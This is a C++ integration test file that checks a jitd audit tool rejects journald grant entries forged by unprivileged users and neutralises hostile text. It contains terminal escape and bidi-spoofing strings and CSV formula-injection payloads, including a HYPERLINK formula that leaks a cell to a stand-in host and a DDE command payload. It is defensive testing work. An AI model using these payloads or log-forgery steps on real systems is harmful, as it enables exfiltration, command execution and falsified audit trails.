// Forged audit records against a real (private) journald. Any local account can write an entry
// with SYSLOG_IDENTIFIER=jitd and JITD_EVENT=grant, and can even name its process jitd; only
// journald's own fields (_UID from the kernel) tell jitd's entries from such claims. A test user
// with no jitd role forges entries (with sd_journal_send after setuid, and with logger
// --journald); `jit-request audit` must not show them as real in any format or in the
// per-port summary. Journal text is also hostile to terminals and to JSON/CSV writers.
#include <stdlib.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <filesystem>
#include <string>

#include "tests/integration/client/client_test_support.hpp"
#include "tests/integration/client/journal_writer.hpp"
#include "tests/support/process.hpp"
#include "tests/support/users.hpp"

namespace jitd::test {
namespace {

using json = nlohmann::json;

std::string unique(const std::string& what) {
    return "fa" + std::to_string(::getpid()) + what;
}

// A port no other test in this process uses, so that --port sees only this test's entries.
std::string unique_port(int offset) {
    return std::to_string(20000 + (::getpid() % 9000) * 4 + offset);
}

std::vector<std::string> grant_fields(const std::string& user, const std::string& port,
                                      const std::string& id, const std::string& reason) {
    return {"MESSAGE=jitd granted " + user,
            "SYSLOG_IDENTIFIER=jitd",
            "MESSAGE_ID=78b033ff7bf5492da6d0f34645348d58",
            "JITD_EVENT=grant",
            "JITD_USER=" + user,
            "JITD_UID=4242",
            "JITD_PORT=" + port,
            "JITD_PROTOCOL=tcp",
            "JITD_SOURCE=198.51.100.2/32",
            "JITD_GRANT_ID=" + id,
            "JITD_START=2026-11-23T14:00:00Z",
            "JITD_END=2026-11-23T15:00:00Z",
            "JITD_REASON=" + reason};
}

// A directory the test users may read, removed at the end.
struct TempDir {
    TempDir() {
        char tmpl[] = "/tmp/jitd-forge.XXXXXX";
        if (!::mkdtemp(tmpl)) throw std::runtime_error("mkdtemp failed");
        path = tmpl;
        std::filesystem::permissions(path, std::filesystem::perms(0755));
    }
    ~TempDir() {
        std::error_code ec;
        std::filesystem::remove_all(path, ec);
    }
    std::string path;
};

// Polls `audit ARGS --include-untrusted --format json` until it lists `n` events (entries written
// by logger are in the journal already, but not always read back at once).
json wait_for_all(std::vector<std::string> args, std::size_t n) {
    args.insert(args.begin(), "audit");
    for (const char* a : {"--include-untrusted", "--format", "json"}) args.push_back(a);
    json events = json::array();
    poll_until([&] {
        const auto r = jit_request(args);
        if (r.exit_code != 0) return false;
        events = json::parse(r.out);
        return events.size() >= n;
    });
    return events;
}

class ForgedAudit : public ::testing::Test {
  protected:
    void SetUp() override {
        if (!is_root()) GTEST_SKIP() << "needs root (a private journald, test users)";
    }
};

TEST_F(ForgedAudit, AStrangersGrantIsNeitherShownAsRealNorCountedInTheSummary) {
    TestUsers users;
    const std::string port = unique_port(0);
    const std::string real_user = unique("real");
    const std::string forged_user = unique("ciso");

    auto w = journal_send_from(grant_fields(real_user, port, "g-00000000a001", "real one"), "jitd");
    ASSERT_EQ(w.at("_UID"), "0");
    // The forger picks every field jitd writes, and even its process name.
    w = journal_send_from(grant_fields(forged_user, port, "g-00000000f001", "approved by CISO"),
                          "jitd", &users.stranger);
    ASSERT_EQ(w.at("_UID"), std::to_string(users.stranger.id.uid));
    ASSERT_EQ(w.at("_COMM"), "jitd");
    // The same with a stock tool, run under the name jitd.
    TempDir dir;
    const std::string fake_jitd = dir.path + "/jitd";
    std::filesystem::create_symlink("/usr/bin/logger", fake_jitd);
    std::string lines;
    for (const auto& f : grant_fields(forged_user, port, "g-00000000f002", "approved by CISO"))
        lines += f + "\n";
    const std::string nonce = "JITD_TEST_NONCE=" + unique("logger");
    lines += nonce + "\n";
    const auto logged = TestUsers::run_as(users.stranger, {fake_jitd, "--journald"}, lines);
    ASSERT_EQ(logged.exit_code, 0) << describe(logged);
    w = wait_for_journal_entry(nonce);
    ASSERT_FALSE(w.empty()) << "logger's entry did not reach the journal";
    ASSERT_EQ(w.at("_UID"), std::to_string(users.stranger.id.uid));

    // The table and its summary: one grant, last used by the real user; the rule is named.
    auto r = jit_request({"audit", "--port", port});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    EXPECT_EQ(r.out.find(forged_user), std::string::npos) << r.out;
    EXPECT_EQ(r.out.find("CISO"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("1 from a root process named jitd"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("2 entries claiming to be jitd were ignored: not written by jitd"),
              std::string::npos)
        << r.out;
    const std::string summary = r.out.substr(r.out.find("per port:"));
    EXPECT_NE(summary.find("\n" + port + "  1       "), std::string::npos) << summary;
    EXPECT_NE(summary.find(real_user), std::string::npos) << summary;

    // CSV and JSON: only jitd's own entry.
    r = jit_request({"audit", "--port", port, "--format", "csv"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    EXPECT_EQ(r.out.find(forged_user), std::string::npos) << r.out;
    const json rows = parse_csv(r.out);
    ASSERT_EQ(rows.size(), 1u) << r.out;
    EXPECT_EQ(rows[0]["user"], real_user);
    EXPECT_EQ(rows[0]["trust"], "root");

    r = jit_request({"audit", "--port", port, "--format", "json"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    const json ev = json::parse(r.out);
    ASSERT_EQ(ev.size(), 1u) << r.out;
    EXPECT_EQ(ev[0]["grant_id"], "g-00000000a001");
    EXPECT_EQ(ev[0]["trust"], "root");
    EXPECT_NE(r.err.find("2 entries claiming to be jitd were ignored"), std::string::npos) << r.err;

    // Asked for, the claims are shown, marked, and still left out of the summary.
    const json all = wait_for_all({"--port", port}, 3);
    ASSERT_EQ(all.size(), 3u) << all.dump(2);
    EXPECT_EQ(all[0]["trust"], "root");
    EXPECT_EQ(all[1]["trust"], "untrusted");
    EXPECT_EQ(all[2]["trust"], "untrusted");
    r = jit_request({"audit", "--port", port, "--include-untrusted"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    const std::string events = r.out.substr(0, r.out.find("per port:"));
    EXPECT_NE(events.find("NOT-JITD"), std::string::npos) << r.out;
    EXPECT_NE(events.find("g-00000000f001"), std::string::npos) << r.out;
    const std::string summary2 = r.out.substr(r.out.find("per port:"));
    EXPECT_NE(summary2.find("\n" + port + "  1       "), std::string::npos) << summary2;
    EXPECT_EQ(summary2.find(forged_user), std::string::npos) << summary2;
}

// ESC (CSI, OSC), BEL, a C1 control, bidi overrides and zero-width characters.
const std::string kHostile =
    "grant\x1b]0;owned\x07\x1b[2J\xc2\x9b"
    "1m \xe2\x80\xae"
    "txt.exe\xe2\x80\x8b\xef\xbb\xbf\xe2\x81\xa6";

bool has_raw_controls(const std::string& out) {
    for (const std::string bad : {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae", "\xe2\x80\x8b",
                                  "\xef\xbb\xbf", "\xe2\x81\xa6"})
        if (out.find(bad) != std::string::npos) return true;
    return false;
}

TEST_F(ForgedAudit, ControlAndBidiCharactersNeverReachTheTerminal) {
    TestUsers users;
    const std::string port = unique_port(1);
    // Even an entry jitd wrote carries text its clients chose; and a forged one, when shown.
    auto fields = grant_fields(unique("ctl"), port, "g-00000000a002", kHostile);
    fields.push_back("JITD_EVENT=" + kHostile);
    fields.erase(fields.begin() + 3);  // the plain JITD_EVENT=grant
    journal_send_from(fields, "jitd");
    journal_send_from(fields, "jitd", &users.stranger);

    auto r = jit_request({"audit", "--port", port});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    EXPECT_FALSE(has_raw_controls(r.out)) << r.out;
    EXPECT_NE(r.out.find("grant\\x1b]0;owned\\x07\\x1b[2J\\x9b1m \\u202etxt.exe"),
              std::string::npos)
        << r.out;
    r = jit_request({"audit", "--port", port, "--include-untrusted"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    EXPECT_FALSE(has_raw_controls(r.out)) << r.out;
    EXPECT_NE(r.out.find("NOT-JITD"), std::string::npos) << r.out;
}

TEST_F(ForgedAudit, InvalidUtf8NeitherAbortsJsonNorBreaksCsv) {
    TestUsers users;
    const std::string port = unique_port(2);
    const std::string bad = "bad \xff\xfe byte \xc3";
    journal_send_from(grant_fields(unique("u8"), port, "g-00000000a003", bad), "jitd");
    journal_send_from(grant_fields(unique("u8f"), port, "g-00000000f003", bad), "jitd",
                      &users.stranger);

    auto r = jit_request({"audit", "--port", port, "--format", "json"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);  // was 134: an uncaught type_error
    const json ev = json::parse(r.out);
    ASSERT_EQ(ev.size(), 1u) << r.out;
    EXPECT_EQ(ev[0]["reason"], "bad \xef\xbf\xbd\xef\xbf\xbd byte \xef\xbf\xbd");

    r = jit_request({"audit", "--port", port, "--format", "csv"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    const json rows = parse_csv(r.out);  // python3 decodes it as UTF-8
    ASSERT_EQ(rows.size(), 1u) << r.out;
    EXPECT_EQ(rows[0]["reason"], "bad \xef\xbf\xbd\xef\xbf\xbd byte \xef\xbf\xbd");

    r = jit_request({"audit", "--port", port});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    EXPECT_NE(r.out.find("bad \\xff\\xfe byte \\xc3"), std::string::npos) << r.out;

    const json all = wait_for_all({"--port", port}, 2);  // the forged one too: no abort
    ASSERT_EQ(all.size(), 2u) << all.dump(2);
    EXPECT_EQ(all[1]["trust"], "untrusted");
    EXPECT_EQ(all[1]["reason"], all[0]["reason"]);
}

TEST_F(ForgedAudit, CsvFormulaCellsAreNeutralised) {
    const std::string port = unique_port(3);
    auto fields = grant_fields("=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"x\")", port,
                               "g-00000000a004", "=cmd|' /C calc'!A0");
    fields.push_back("JITD_ERROR=@SUM(1+1)");
    fields[7] = "JITD_PROTOCOL=+1";       // JITD_PROTOCOL
    fields[0] = "MESSAGE=-2+3,\ttabbed";  // MESSAGE
    fields[8] = "JITD_SOURCE=\t=1";       // JITD_SOURCE
    journal_send_from(fields, "jitd");

    const auto r = jit_request({"audit", "--port", port, "--format", "csv"});
    ASSERT_EQ(r.exit_code, 0) << describe(r);
    const json rows = parse_csv(r.out);
    ASSERT_EQ(rows.size(), 1u) << r.out;
    EXPECT_EQ(rows[0]["user"], "'=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"x\")");
    EXPECT_EQ(rows[0]["reason"], "'=cmd|' /C calc'!A0");
    EXPECT_EQ(rows[0]["error"], "'@SUM(1+1)");
    EXPECT_EQ(rows[0]["protocol"], "'+1");
    EXPECT_EQ(rows[0]["message"], "'-2+3,\ttabbed");
    EXPECT_EQ(rows[0]["source"], "'\t=1");
    EXPECT_EQ(rows[0]["port"], port);
    for (const auto& [column, value] : rows[0].items()) {
        const std::string v = value.get<std::string>();
        EXPECT_TRUE(v.empty() || std::string("=+-@\t\r").find(v[0]) == std::string::npos)
            << column << ": " << v;
    }
}

}  // namespace
}  // namespace jitd::test
